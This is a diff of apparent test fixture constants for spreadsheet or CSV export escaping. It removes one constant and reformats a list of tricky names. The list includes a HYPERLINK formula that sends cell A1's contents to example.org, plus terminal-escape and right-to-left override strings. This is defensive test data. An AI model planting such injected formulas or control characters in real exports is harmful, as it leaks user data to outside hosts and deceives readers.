@@ -24,16 +24,7 @@ LARGEST = 2**256 - 1
 WALLET = "0x" + "a1" * 20
 DEVICE = "d" + 19 * "X"
 FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")'
-INSIDE = 'a;=1+1;"+2"\n  =3; -4; b;c'
-NAMES = [
-    FORMULA,
-    'A "quoted", name\r\nof three\nlines',
-    "",
-    "\x1b[2J\u202etxt",
-    "@risk",
-    "'quoted",
-    INSIDE,
-]
+NAMES = [FORMULA, 'A "quoted", name\r\nof three\nlines', "", "\x1b[2J\u202etxt", "@risk", "'quoted"]
 ITEM_LABEL = "The item"
 
 
